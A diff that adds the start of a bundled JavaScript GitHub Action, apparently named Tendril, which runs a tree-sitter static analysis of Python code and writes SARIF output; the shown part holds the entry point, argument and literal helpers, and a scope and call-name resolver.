@@ -1,0 +1,9200 @@
+/******/ (() => { // webpackBootstrap
+/******/ 	"use strict";
+/******/ 	var __webpack_modules__ = ({
+
+/***/ 929:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+const fs = __importStar(__nccwpck_require__(896));
+const os = __importStar(__nccwpck_require__(857));
+const path = __importStar(__nccwpck_require__(928));
+const config_1 = __nccwpck_require__(973);
+const worker_1 = __nccwpck_require__(286);
+const errors_1 = __nccwpck_require__(916);
+const runner_1 = __nccwpck_require__(373);
+const sarif_1 = __nccwpck_require__(643);
+const summary_1 = __nccwpck_require__(994);
+const text_1 = __nccwpck_require__(655);
+const run_1 = __nccwpck_require__(786);
+const settings_1 = __nccwpck_require__(750);
+/**
+ * The GitHub Action: inputs -> run() -> SARIF file, outputs, job summary, exit code. Runs in the
+ * workspace; paths in inputs are relative to it.
+ */
+async function action() {
+    const root = path.resolve(process.env.GITHUB_WORKSPACE || process.cwd());
+    const paths = ((0, runner_1.getInput)('paths') || '.')
+        .split(/\r?\n/)
+        .map((p) => p.trim())
+        .filter(Boolean)
+        .map((p) => path.resolve(root, p));
+    for (const p of paths) {
+        if (!fs.existsSync(p))
+            throw new errors_1.UsageError(`Input 'paths': ${path.relative(root, p) || '.'} does not exist in the workspace`);
+    }
+    const configInput = (0, runner_1.getInput)('config');
+    const configFile = configInput ? path.resolve(root, configInput) : (0, config_1.findConfig)(root);
+    if (configInput && !fs.existsSync(configFile))
+        throw new errors_1.UsageError(`Input 'config': ${configInput} does not exist`);
+    const fromFile = configFile ? (0, settings_1.readConfigFile)(configFile) : {};
+    const fromInputs = {};
+    const threshold = (0, runner_1.getInput)('fail-on-security-severity');
+    if (threshold)
+        fromInputs.failOnSecuritySeverity = (0, settings_1.parseThreshold)(threshold, "Input 'fail-on-security-severity'");
+    const limit = (0, runner_1.getInput)('max-maintainability-findings');
+    if (limit)
+        fromInputs.maxMaintainabilityFindings = (0, settings_1.parseLimit)(limit, "Input 'max-maintainability-findings'");
+    const sarifInput = (0, runner_1.getInput)('sarif-file') || 'tendril.sarif';
+    const sarifPath = path.resolve(root, sarifInput);
+    const settings = (0, settings_1.resolveSettings)({ root, paths, jobs: os.availableParallelism() }, fromFile, fromInputs);
+    const outcome = await (0, run_1.run)(settings, __filename);
+    fs.mkdirSync(path.dirname(sarifPath), { recursive: true });
+    fs.writeFileSync(sarifPath, (0, sarif_1.formatSarif)(outcome));
+    for (const n of outcome.notifications)
+        (0, runner_1.info)(`${n.level}: ${n.message}`);
+    (0, runner_1.info)(`Tendril: ${(0, text_1.totalsLine)(outcome)}. SARIF written to ${sarifInput}.`);
+    (0, runner_1.setOutput)('sarif-file', sarifInput);
+    (0, runner_1.setOutput)('security-findings', String(outcome.counts.security));
+    (0, runner_1.setOutput)('maintainability-findings', String(outcome.counts.maintainability));
+    (0, runner_1.appendSummary)((0, summary_1.formatSummary)(outcome, sarifInput));
+    for (const reason of outcome.gate.reasons)
+        (0, runner_1.error)(reason, 'Tendril gate failed');
+    return outcome.gate.failed ? 1 : 0;
+}
+if ((0, worker_1.isTendrilWorker)()) {
+    (0, worker_1.runWorker)();
+}
+else {
+    action().then((code) => {
+        process.exitCode = code;
+    }, (err) => {
+        const message = err instanceof errors_1.UsageError ? err.message : `internal error: ${err instanceof Error ? err.message : String(err)}`;
+        (0, runner_1.error)(message, 'Tendril');
+        process.exitCode = 2;
+    });
+}
+
+
+/***/ }),
+
+/***/ 463:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.calls = void 0;
+exports.positionalArguments = positionalArguments;
+exports.keywordArgument = keywordArgument;
+exports.keywordValue = keywordValue;
+exports.hasArgumentSplat = hasArgumentSplat;
+exports.argumentAt = argumentAt;
+exports.unparenthesize = unparenthesize;
+exports.stringLiteralValue = stringLiteralValue;
+exports.isPlainStringLiteral = isPlainStringLiteral;
+exports.truthiness = truthiness;
+exports.isTruthyConstant = isTruthyConstant;
+exports.isFalsyConstant = isFalsyConstant;
+// ---------------------------------------------------------------------------------------------
+// Argument helpers
+/** Named children of a node, without comments (tree-sitter keeps comments as named nodes). */
+function namedChildrenOf(node) {
+    const out = [];
+    for (const child of node.namedChildren)
+        if (child && child.type !== 'comment')
+            out.push(child);
+    return out;
+}
+function argumentsOf(call) {
+    return call.type === 'call' ? call.childForFieldName('arguments') : null;
+}
+/**
+ * Positional arguments in order. `*args` appear as `list_splat` nodes, where they stand; the
+ * argument of `f(x for x in y)` is its `generator_expression`.
+ */
+function positionalArguments(call) {
+    const args = argumentsOf(call);
+    if (!args)
+        return [];
+    if (args.type === 'generator_expression')
+        return [args];
+    return namedChildrenOf(args).filter((n) => n.type !== 'keyword_argument' && n.type !== 'dictionary_splat');
+}
+/** The `keyword_argument` node `name=...` of a call, if written explicitly. */
+function keywordArgument(call, name) {
+    const args = argumentsOf(call);
+    if (!args || args.type !== 'argument_list')
+        return undefined;
+    for (const child of namedChildrenOf(args)) {
+        if (child.type === 'keyword_argument' && child.childForFieldName('name')?.text === name)
+            return child;
+    }
+    return undefined;
+}
+/** The value node of keyword argument `name=...`, if written explicitly. */
+function keywordValue(call, name) {
+    return keywordArgument(call, name)?.childForFieldName('value') ?? undefined;
+}
+/** True when the call unpacks arguments (`*args` or `**kwargs`), which may hide any parameter. */
+function hasArgumentSplat(call) {
+    const args = argumentsOf(call);
+    if (!args || args.type !== 'argument_list')
+        return false;
+    return namedChildrenOf(args).some((n) => n.type === 'list_splat' || n.type === 'dictionary_splat');
+}
+/**
+ * The argument for the parameter at `index` (0-based) that may also be passed as `keyword`:
+ * the positional argument there, else the keyword's value. When a `*args` splat stands at or
+ * before `index`, that `list_splat` node is returned: the argument is somewhere in it, unknown.
+ * Undefined when the argument is not written (it may still hide in a `**kwargs`).
+ */
+function argumentAt(call, index, keyword) {
+    const positional = positionalArguments(call);
+    for (let i = 0; i < positional.length; i++) {
+        if (positional[i].type === 'list_splat' || i === index)
+            return positional[i];
+    }
+    return keyword === undefined ? undefined : keywordValue(call, keyword);
+}
+// ---------------------------------------------------------------------------------------------
+// Literal helpers
+/** Strips redundant parentheses: `(("x"))` -> `"x"`. */
+function unparenthesize(node) {
+    let current = node;
+    while (current.type === 'parenthesized_expression') {
+        const inner = namedChildrenOf(current);
+        if (inner.length !== 1)
+            break;
+        current = inner[0];
+    }
+    return current;
+}
+const SIMPLE_ESCAPES = {
+    '\\': '\\', "'": "'", '"': '"', a: '\x07', b: '\b', f: '\f', n: '\n', r: '\r', t: '\t', v: '\v',
+};
+/** Decodes the backslash escapes of a non-raw Python string body (unknown escapes stay as written). */
+function decodeEscapes(body, bytes) {
+    return body.replace(/\\(\r\n|\n|x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|[0-7]{1,3}|.)/gs, (whole, esc) => {
+        if (esc === '\n' || esc === '\r\n')
+            return '';
+        if (esc in SIMPLE_ESCAPES)
+            return SIMPLE_ESCAPES[esc];
+        if (/^[0-7]/.test(esc))
+            return String.fromCharCode(parseInt(esc, 8));
+        if (esc[0] === 'x')
+            return String.fromCharCode(parseInt(esc.slice(1), 16));
+        if (!bytes && (esc[0] === 'u' || esc[0] === 'U')) {
+            const code = parseInt(esc.slice(1), 16);
+            return code <= 0x10ffff ? String.fromCodePoint(code) : whole;
+        }
+        return whole;
+    });
+}
+/** Value of one `string` node with no interpolation; undefined for f-string fields, t-strings, bytes (unless allowed). */
+function singleStringValue(node, allowBytes) {
+    const start = node.namedChildren.find((c) => c?.type === 'string_start');
+    const end = node.namedChildren.find((c) => c?.type === 'string_end');
+    if (!start || !end)
+        return undefined;
+    const prefix = start.text.replace(/['"]+$/, '').toLowerCase();
+    if (prefix.includes('t'))
+        return undefined; // template strings (3.14) are not str
+    const bytes = prefix.includes('b');
+    if (bytes && !allowBytes)
+        return undefined;
+    if (node.namedChildren.some((c) => c?.type === 'interpolation'))
+        return undefined;
+    let body = node.text.slice(start.endIndex - node.startIndex, end.startIndex - node.startIndex);
+    if (!prefix.includes('r'))
+        body = decodeEscapes(body, bytes);
+    if (prefix.includes('f'))
+        body = body.replace(/\{\{/g, '{').replace(/\}\}/g, '}');
+    return body;
+}
+/**
+ * The value of a string literal with no interpolation: a plain or raw string, an f-string
+ * without fields, or a concatenation of such strings (implicit `"a" "b"`, or `"a" + "b"`), in
+ * parentheses or not. Bytes literals count only with `allowBytes`. Undefined for anything else.
+ */
+function stringLiteralValue(node, options = {}) {
+    const allowBytes = options.allowBytes ?? false;
+    const expr = unparenthesize(node);
+    switch (expr.type) {
+        case 'string':
+            return singleStringValue(expr, allowBytes);
+        case 'concatenated_string': {
+            let value = '';
+            for (const part of namedChildrenOf(expr)) {
+                const piece = part.type === 'string' ? singleStringValue(part, allowBytes) : undefined;
+                if (piece === undefined)
+                    return undefined;
+                value += piece;
+            }
+            return value;
+        }
+        case 'binary_operator': {
+            if (expr.childForFieldName('operator')?.type !== '+')
+                return undefined;
+            const left = expr.childForFieldName('left');
+            const right = expr.childForFieldName('right');
+            if (!left || !right)
+                return undefined;
+            const l = stringLiteralValue(left, options);
+            if (l === undefined)
+                return undefined;
+            const r = stringLiteralValue(right, options);
+            return r === undefined ? undefined : l + r;
+        }
+        default:
+            return undefined;
+    }
+}
+/** True when `node` is a string literal with no interpolation (see `stringLiteralValue`). */
+function isPlainStringLiteral(node, options = {}) {
+    return stringLiteralValue(node, options) !== undefined;
+}
+/** Whether a numeric literal's value is non-zero (handles `0x0`, `0.0e5`, `0j`, `1_000`). */
+function numberIsNonZero(text) {
+    let t = text.replace(/_/g, '').toLowerCase();
+    if (t.endsWith('j') || t.endsWith('l'))
+        t = t.slice(0, -1);
+    if (t.startsWith('0x'))
+        return /[1-9a-f]/.test(t.slice(2));
+    if (t.startsWith('0o') || t.startsWith('0b'))
+        return /[1-9]/.test(t.slice(2));
+    const mantissa = t.split('e')[0];
+    return /[1-9]/.test(mantissa);
+}
+/** Truth value of a `string` node: non-empty literal text makes it true whatever its fields. */
+function stringTruthiness(node) {
+    const plain = singleStringValue(node, true);
+    if (plain !== undefined)
+        return plain.length > 0;
+    const start = node.namedChildren.find((c) => c?.type === 'string_start');
+    if (start && start.text.replace(/['"]+$/, '').toLowerCase().includes('t'))
+        return true; // a Template object
+    if (node.namedChildren.some((c) => c?.type === 'string_content' && c.text.length > 0))
+        return true;
+    return undefined;
+}
+/**
+ * The truth value of a constant expression, when it is known without running anything: `True`,
+ * non-zero numbers, non-empty strings and non-empty `[...]`, `(...)`, `{...}` displays, `...`,
+ * lambdas are true; `False`, `None`, zero, empty strings and empty displays are false; `not`
+ * and unary `+`/`-` are followed. Anything else (names, calls, comparisons, displays made only
+ * of `*x` splats) is undefined.
+ */
+function truthiness(node) {
+    const expr = unparenthesize(node);
+    switch (expr.type) {
+        case 'true':
+        case 'ellipsis':
+        case 'lambda':
+            return true;
+        case 'false':
+        case 'none':
+            return false;
+        case 'integer':
+        case 'float':
+            return numberIsNonZero(expr.text);
+        case 'string':
+            return stringTruthiness(expr);
+        case 'concatenated_string': {
+            let all = false;
+            for (const part of namedChildrenOf(expr)) {
+                const value = part.type === 'string' ? stringTruthiness(part) : undefined;
+                if (value === true)
+                    return true;
+                if (value === undefined)
+                    all = undefined;
+            }
+            return all;
+        }
+        case 'list':
+        case 'tuple':
+        case 'set':
+        case 'dictionary': {
+            const items = namedChildrenOf(expr);
+            if (items.length === 0)
+                return false;
+            // `[*a]` or `{**a}` may be empty; one ordinary element makes the display non-empty.
+            return items.some((item) => item.type !== 'list_splat' && item.type !== 'dictionary_splat') ? true : undefined;
+        }
+        case 'not_operator': {
+            const argument = expr.childForFieldName('argument');
+            const value = argument ? truthiness(argument) : undefined;
+            return value === undefined ? undefined : !value;
+        }
+        case 'unary_operator': {
+            const operator = expr.childForFieldName('operator')?.type;
+            const argument = expr.childForFieldName('argument');
+            if ((operator !== '-' && operator !== '+') || !argument)
+                return undefined;
+            const inner = unparenthesize(argument);
+            return inner.type === 'integer' || inner.type === 'float' || inner.type === 'unary_operator' ? truthiness(inner) : undefined;
+        }
+        default:
+            return undefined;
+    }
+}
+/** True when the node is a constant known to be true (`True`, `1`, `"x"`, `[0]`, ...). */
+function isTruthyConstant(node) {
+    return truthiness(node) === true;
+}
+/** True when the node is a constant known to be false (`False`, `None`, `0`, `""`, `[]`, ...). */
+function isFalsyConstant(node) {
+    return truthiness(node) === false;
+}
+class Scope {
+    kind;
+    start;
+    end;
+    parent;
+    bodyId;
+    children = [];
+    bindings = new Map();
+    stars = [];
+    globals = new Set();
+    nonlocals = new Set();
+    /** Ranges `[start, end]` of loop bodies whose code can run again after later code of this scope. */
+    loops = [];
+    constructor(kind, 
+    /** Source range of the code that runs in this scope (a function's body, not its defaults). */
+    start, end, parent, 
+    /** For function and class scopes: the id of the body block whose entry activates the scope. */
+    bodyId) {
+        this.kind = kind;
+        this.start = start;
+        this.end = end;
+        this.parent = parent;
+        this.bodyId = bodyId;
+        parent?.children.push(this);
+    }
+    bind(name, binding) {
+        const list = this.bindings.get(name);
+        if (list)
+            list.push(binding);
+        else
+            this.bindings.set(name, [binding]);
+    }
+    /** True when some loop of this scope contains both positions (a later binding can reach back). */
+    sharesLoop(a, b) {
+        return this.loops.some(([start, end]) => start <= a && a <= end && start <= b && b <= end);
+    }
+    get functionLike() {
+        return this.kind === 'function' || this.kind === 'lambda' || this.kind === 'comprehension';
+    }
+}
+/** Python 3 builtin functions and types (exceptions left out: no rule asks about calling them). */
+const BUILTINS = new Set(('abs aiter all anext any ascii bin bool breakpoint bytearray bytes callable chr classmethod compile complex ' +
+    'copyright credits delattr dict dir divmod enumerate eval exec exit filter float format frozenset getattr ' +
+    'globals hasattr hash help hex id input int isinstance issubclass iter len license list locals map max ' +
+    'memoryview min next object oct open ord pow print property quit range repr reversed round set setattr ' +
+    'slice sorted staticmethod str sum super tuple type vars zip __import__').split(' '));
+/** Identifiers bound by an assignment-like target (`a`, `a, (b, *c)`, `[a, b]`); attributes and subscripts bind nothing. */
+function targetNames(node) {
+    switch (node.type) {
+        case 'identifier':
+            return [node.text];
+        case 'pattern_list':
+        case 'tuple_pattern':
+        case 'list_pattern':
+        case 'expression_list':
+        case 'tuple':
+        case 'list':
+        case 'parenthesized_expression':
+        case 'list_splat_pattern':
+        case 'list_splat':
+        case 'as_pattern_target':
+            return namedChildrenOf(node).flatMap(targetNames);
+        default:
+            return [];
+    }
+}
+/** Names bound by a function's or lambda's parameter list. */
+function parameterNames(parameters) {
+    if (!parameters)
+        return [];
+    const names = [];
+    const visit = (node) => {
+        switch (node.type) {
+            case 'identifier':
+                names.push(node.text);
+                break;
+            case 'default_parameter':
+            case 'typed_default_parameter': {
+                const name = node.childForFieldName('name');
+                if (name)
+                    visit(name);
+                break;
+            }
+            case 'typed_parameter':
+            case 'list_splat_pattern':
+            case 'dictionary_splat_pattern': {
+                const first = namedChildrenOf(node).find((c) => c.type !== 'type');
+                if (first)
+                    visit(first);
+                break;
+            }
+            case 'tuple_pattern': // Python 2 `def f((a, b))`
+                names.push(...targetNames(node));
+                break;
+            default:
+                break;
+        }
+    };
+    for (const child of namedChildrenOf(parameters))
+        visit(child);
+    return names;
+}
+/** `a . b . c` -> `a.b.c` (tree-sitter keeps whitespace and comments inside dotted names). */
+function dottedText(node) {
+    return namedChildrenOf(node)
+        .filter((c) => c.type === 'identifier')
+        .map((c) => c.text)
+        .join('.');
+}
+/** The callee as a dotted chain of names (`sp.Popen`), or undefined for anything else. */
+function writtenChain(node) {
+    const expr = unparenthesize(node);
+    if (expr.type === 'identifier')
+        return expr.text;
+    if (expr.type === 'attribute') {
+        const object = expr.childForFieldName('object');
+        const attribute = expr.childForFieldName('attribute');
+        const base = object ? writtenChain(object) : undefined;
+        return base !== undefined && attribute ? `${base}.${attribute.text}` : undefined;
+    }
+    return undefined;
+}
+/** How deep alias chains (`a = b`, `b = c.d`, ...) are followed before giving up. */
+const MAX_ALIAS_DEPTH = 8;
+exports.calls = {
+    name: 'calls',
+    create(context) {
+        const root = context.tree.rootNode;
+        const module = new Scope('module', root.startIndex, root.endIndex, undefined);
+        const stack = [module];
+        /** Function and class scopes created at their definition, entered with their body block. */
+        const pendingBodies = new Map();
+        /** Lambda and comprehension scopes, popped on exit of the node that opened them. */
+        const openedBy = new Map();
+        const callNodes = [];
+        const current = () => stack[stack.length - 1];
+        const other = (at, anytime = false) => ({ kind: 'other', at, anytime });
+        /** Binding for `name = value` (the innermost value of `a = b = value`). */
+        const assignmentBinding = (value, at) => {
+            if (!value)
+                return other(at); // `x: int` makes `x` local in a function: treat as unknown
+            const expr = unparenthesize(value);
+            if (expr.type === 'none')
+                return { kind: 'none', at, anytime: false };
+            if (writtenChain(expr) !== undefined)
+                return { kind: 'alias', value: expr, at, anytime: false };
+            return other(at);
+        };
+        const openScope = (kind, node, range) => {
+            const scope = new Scope(kind, range.startIndex, range.endIndex, current());
+            openedBy.set(node.id, scope);
+            stack.push(scope);
+            return scope;
+        };
+        const closeScope = (node) => {
+            const scope = openedBy.get(node.id);
+            if (scope && current() === scope)
+                stack.pop();
+        };
+        const openComprehension = (node) => void openScope('comprehension', node, node);
+        const visitor = {
+            function_definition(node) {
+                const name = node.childForFieldName('name');
+                if (name)
+                    current().bind(name.text, other(node.endIndex));
+                const body = node.childForFieldName('body');
+                if (!body)
+                    return;
+                const scope = new Scope('function', body.startIndex, body.endIndex, current(), body.id);
+                for (const param of parameterNames(node.childForFieldName('parameters')))
+                    scope.bind(param, other(-1, true));
+                pendingBodies.set(body.id, scope);
+            },
+            class_definition(node) {
+                const name = node.childForFieldName('name');
+                if (name)
+                    current().bind(name.text, other(node.endIndex));
+                const body = node.childForFieldName('body');
+                if (!body)
+                    return;
+                pendingBodies.set(body.id, new Scope('class', body.startIndex, body.endIndex, current(), body.id));
+            },
+            block(node) {
+                const scope = pendingBodies.get(node.id);
+                if (scope) {
+                    pendingBodies.delete(node.id);
+                    stack.push(scope);
+                }
+            },
+            'block:exit'(node) {
+                if (current().bodyId === node.id && stack.length > 1)
+                    stack.pop();
+            },
+            lambda(node) {
+                const body = node.childForFieldName('body');
+                const scope = openScope('lambda', node, body ?? node);
+                for (const param of parameterNames(node.childForFieldName('parameters')))
+                    scope.bind(param, other(-1, true));
+            },
+            'lambda:exit': closeScope,
+            list_comprehension: openComprehension,
+            set_comprehension: openComprehension,
+            dictionary_comprehension: openComprehension,
+            generator_expression: openComprehension,
+            'list_comprehension:exit': closeScope,
+            'set_comprehension:exit': closeScope,
+            'dictionary_comprehension:exit': closeScope,
+            'generator_expression:exit': closeScope,
+            for_in_clause(node) {
+                // Comprehension targets: the body that uses them stands before them in the text.
+                const left = node.childForFieldName('left');
+                if (left)
+                    for (const name of targetNames(left))
+                        current().bind(name, other(-1, true));
+            },
+            import_statement(node) {
+                for (const item of node.childrenForFieldName('name')) {
+                    if (!item)
+                        continue;
+                    if (item.type === 'dotted_name') {
+                        // `import a.b.c` binds `a`, the top-level package.
+                        const top = dottedText(item).split('.')[0];
+                        if (top)
+                            current().bind(top, { kind: 'import', qualifiedName: top, at: node.endIndex, anytime: false });
+                    }
+                    else if (item.type === 'aliased_import') {
+                        const dotted = item.childForFieldName('name');
+                        const alias = item.childForFieldName('alias');
+                        if (dotted && alias) {
+                            current().bind(alias.text, { kind: 'import', qualifiedName: dottedText(dotted), at: node.endIndex, anytime: false });
+                        }
+                    }
+                }
+            },
+            import_from_statement(node) {
+                const moduleName = node.childForFieldName('module_name');
+                // Relative imports name a module of an unknown package: their names stay unresolved.
+                const base = moduleName?.type === 'dotted_name' ? dottedText(moduleName) : undefined;
+                if (namedChildrenOf(node).some((c) => c.type === 'wildcard_import')) {
+                    current().stars.push({ kind: 'star', at: node.endIndex, anytime: false });
+                    return;
+                }
+                for (const item of node.childrenForFieldName('name')) {
+                    if (!item)
+                        continue;
+                    const dotted = item.type === 'aliased_import' ? item.childForFieldName('name') : item;
+                    const bound = item.type === 'aliased_import' ? item.childForFieldName('alias') : item;
+                    if (!dotted || !bound)
+                        continue;
+                    const boundName = bound.type === 'dotted_name' ? dottedText(bound) : bound.text;
+                    current().bind(boundName, base !== undefined
+                        ? { kind: 'import', qualifiedName: `${base}.${dottedText(dotted)}`, at: node.endIndex, anytime: false }
+                        : other(node.endIndex));
+                }
+            },
+            assignment(node) {
+                const left = node.childForFieldName('left');
+                if (!left)
+                    return;
+                let value = node.childForFieldName('right');
+                while (value && value.type === 'assignment')
+                    value = value.childForFieldName('right');
+                // Only a single name gets the value's meaning; unpacking binds unknown values.
+                if (left.type === 'identifier')
+                    current().bind(left.text, assignmentBinding(value, node.endIndex));
+                else
+                    for (const name of targetNames(left))
+                        current().bind(name, other(node.endIndex));
+            },
+            augmented_assignment(node) {
+                const left = node.childForFieldName('left');
+                if (left)
+                    for (const name of targetNames(left))
+                        current().bind(name, other(node.endIndex));
+            },
+            named_expression(node) {
+                // `:=` binds in the nearest enclosing scope that is not a comprehension.
+                const name = node.childForFieldName('name');
+                let scope = current();
+                while (scope.kind === 'comprehension' && scope.parent)
+                    scope = scope.parent;
+                if (name)
+                    scope.bind(name.text, assignmentBinding(node.childForFieldName('value'), node.endIndex));
+            },
+            for_statement(node) {
+                const left = node.childForFieldName('left');
+                const right = node.childForFieldName('right');
+                const body = node.childForFieldName('body');
+                const at = right?.endIndex ?? node.endIndex;
+                if (left)
+                    for (const name of targetNames(left))
+                        current().bind(name, other(at));
+                if (body)
+                    current().loops.push([body.startIndex, body.endIndex]);
+            },
+            while_statement(node) {
+                const condition = node.childForFieldName('condition');
+                const body = node.childForFieldName('body');
+                if (body)
+                    current().loops.push([(condition ?? body).startIndex, body.endIndex]);
+            },
+            as_pattern(node) {
+                // `with a as b`, `except E as e` (target in as_pattern_target) and `case P as name`.
+                const target = namedChildrenOf(node).find((c) => c.type === 'as_pattern_target');
+                if (target) {
+                    for (const name of targetNames(target))
+                        current().bind(name, other(node.endIndex));
+                    return;
+                }
+                const children = namedChildrenOf(node);
+                const last = children[children.length - 1];
+                if (children.length > 1 && last.type === 'identifier')
+                    current().bind(last.text, other(node.endIndex));
+            },
+            case_pattern(node) {
+                // Capture patterns: a bare name (`case x:`, `[x, *rest]`, `{"k": x, **kw}`).
+                for (const child of namedChildrenOf(node)) {
+                    let captured;
+                    if (child.type === 'dotted_name' && namedChildrenOf(child).length === 1)
+                        captured = namedChildrenOf(child)[0];
+                    else if (child.type === 'splat_pattern')
+                        captured = namedChildrenOf(child).find((c) => c.type === 'identifier');
+                    if (captured && captured.text !== '_')
+                        current().bind(captured.text, other(node.endIndex));
+                }
+            },
+            keyword_pattern(node) {
+                const capture = namedChildrenOf(node).find((c) => c.type === 'dotted_name');
+                if (capture && namedChildrenOf(capture).length === 1)
+                    current().bind(dottedText(capture), other(node.endIndex));
+            },
+            global_statement(node) {
+                for (const name of namedChildrenOf(node))
+                    if (name.type === 'identifier')
+                        current().globals.add(name.text);
+            },
+            nonlocal_statement(node) {
+                for (const name of namedChildrenOf(node))
+                    if (name.type === 'identifier')
+                        current().nonlocals.add(name.text);
+            },
+            type_alias_statement(node) {
+                const left = node.childForFieldName('left');
+                const name = left ? namedChildrenOf(left).find((c) => c.type === 'identifier') : undefined;
+                if (name)
+                    current().bind(name.text, other(node.endIndex));
+            },
+            call(node) {
+                callNodes.push(node);
+            },
+            end() {
+                finishScopes(module);
+                const resolver = new Resolver(module);
+                const sites = [];
+                const byId = new Map();
+                for (const node of callNodes) {
+                    const callee = node.childForFieldName('function');
+                    if (!callee)
+                        continue;
+                    const site = {
+                        node,
+                        callee,
+                        args: node.childForFieldName('arguments'),
+                        qualifiedName: resolver.resolve(callee, 0, true),
+                        writtenName: writtenChain(callee),
+                    };
+                    sites.push(site);
+                    byId.set(node.id, site);
+                }
+                const model = {
+                    calls: sites,
+                    callsTo(names) {
+                        const wanted = new Set(names);
+                        return sites.filter((site) => site.qualifiedName !== undefined && wanted.has(site.qualifiedName));
+                    },
+                    callAt: (node) => byId.get(node.id),
+                    resolve: (expression) => resolver.resolve(expression, 0, false),
+                };
+                context.setAnalysis('calls', model);
+            },
+        };
+        return visitor;
+    },
+};
+/**
+ * Finishes the scope tree: sorts each scope's children by position (a lambda in a parameter
+ * default is created after the function whose body follows it), and moves bindings made under
+ * `global x` to the module scope and under `nonlocal x` to the nearest enclosing function scope.
+ * Those can happen whenever the declaring function runs, so they are marked `anytime` there.
+ */
+function finishScopes(module) {
+    const visit = (scope) => {
+        scope.children.sort((a, b) => a.start - b.start);
+        for (const child of scope.children)
+            visit(child);
+        if (scope === module)
+            return;
+        for (const name of scope.globals)
+            move(scope, name, module);
+        for (const name of scope.nonlocals) {
+            let target = scope.parent;
+            while (target && !target.functionLike)
+                target = target.kind === 'module' ? undefined : target.parent;
+            if (target)
+                move(scope, name, target);
+            else
+                scope.bindings.delete(name); // a syntax error in Python: forget the bindings
+        }
+    };
+    const move = (from, name, to) => {
+        const list = from.bindings.get(name);
+        if (!list)
+            return;
+        from.bindings.delete(name);
+        for (const binding of list)
+            to.bind(name, { ...binding, anytime: true });
+    };
+    visit(module);
+}
+class Resolver {
+    module;
+    constructor(module) {
+        this.module = module;
+    }
+    /**
+     * Qualified name of a name or attribute chain, or undefined. `noneFails`: the expression is
+     * called or has an attribute read, so a `None` value would have raised and `x = None` bindings
+     * can be ignored.
+     */
+    resolve(node, depth, noneFails) {
+        if (depth > MAX_ALIAS_DEPTH)
+            return undefined;
+        const expr = unparenthesize(node);
+        if (expr.type === 'identifier')
+            return this.resolveName(expr.text, expr.startIndex, this.scopeAt(expr.startIndex), depth, noneFails);
+        if (expr.type === 'attribute') {
+            const object = expr.childForFieldName('object');
+            const attribute = expr.childForFieldName('attribute');
+            const base = object ? this.resolve(object, depth, true) : undefined;
+            return base !== undefined && attribute ? `${base}.${attribute.text}` : undefined;
+        }
+        return undefined;
+    }
+    /** The innermost scope whose code contains source index `at`. */
+    scopeAt(at) {
+        let scope = this.module;
+        for (;;) {
+            const children = scope.children;
+            // Children are disjoint and in source order: binary search for the last one starting at or before `at`.
+            let lo = 0;
+            let hi = children.length - 1;
+            let found;
+            while (lo <= hi) {
+                const mid = (lo + hi) >> 1;
+                if (children[mid].start <= at) {
+                    found = children[mid];
+                    lo = mid + 1;
+                }
+                else
+                    hi = mid - 1;
+            }
+            if (!found || at >= found.end)
+                return scope;
+            scope = found;
+        }
+    }
+    resolveName(name, at, scope, depth, noneFails) {
+        let s = scope;
+        let sameScope = true;
+        while (s) {
+            if (!sameScope && s.kind === 'class') {
+                // Class bodies are not visible from the functions (and comprehensions) they contain.
+                s = s.parent;
+                continue;
+            }
+            if (s.kind !== 'module' && s.globals.has(name)) {
+                s = this.module;
+                sameScope = false;
+                continue;
+            }
+            if (s.nonlocals.has(name)) {
+                s = s.parent;
+                sameScope = false;
+                continue;
+            }
+            const explicit = s.bindings.get(name) ?? [];
+            const all = s.stars.length > 0 ? [...explicit, ...s.stars] : explicit;
+            if (all.length > 0) {
+                const here = s;
+                const reaching = sameScope ? all.filter((b) => b.anytime || b.at <= at || here.sharesLoop(b.at, at)) : all;
+                if (reaching.length > 0)
+                    return this.decide(reaching, depth, noneFails);
+                // Bound in this function but not yet: an UnboundLocalError, not the enclosing name.
+                if (s.functionLike)
+                    return undefined;
+            }
+            sameScope = false;
+            s = s.parent;
+        }
+        return BUILTINS.has(name) ? `builtins.${name}` : undefined;
+    }
+    /** One qualified name if every reaching binding agrees on it, else undefined. */
+    decide(reaching, depth, noneFails) {
+        const overridden = (star) => reaching.some((b) => b.kind !== 'star' && !b.anytime && b.at > star.at);
+        let result;
+        let any = false;
+        for (const binding of reaching) {
+            if (binding.kind === 'none' && noneFails)
+                continue; // the use would fail on None: not the binding used
+            if (binding.kind === 'star' && overridden(binding))
+                continue;
+            let name;
+            if (binding.kind === 'import')
+                name = binding.qualifiedName;
+            else if (binding.kind === 'alias' && binding.value)
+                name = this.resolve(binding.value, depth + 1, noneFails);
+            if (name === undefined || (result !== undefined && result !== name))
+                return undefined;
+            result = name;
+            any = true;
+        }
+        return any ? result : undefined;
+    }
+}
+
+
+/***/ }),
+
+/***/ 985:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.scopes = void 0;
+exports.bindingsOf = bindingsOf;
+exports.bindingIn = bindingIn;
